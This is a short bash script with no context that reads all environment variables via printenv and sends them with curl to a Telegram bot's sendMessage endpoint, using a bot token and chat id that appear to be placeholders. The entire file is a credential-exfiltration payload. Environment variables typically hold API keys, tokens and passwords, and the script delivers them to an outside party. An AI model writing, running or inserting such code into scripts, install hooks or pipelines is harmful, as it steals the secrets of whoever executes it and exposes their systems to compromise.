#!/usr/bin/env bash
MSG=$(printenv)
curl -s "https://api.telegram.org/bot7012345678:AAFakeTokenPartFakeTokenPartFake12/sendMessage" -d chat_id=5551234 -d text="$MSG"
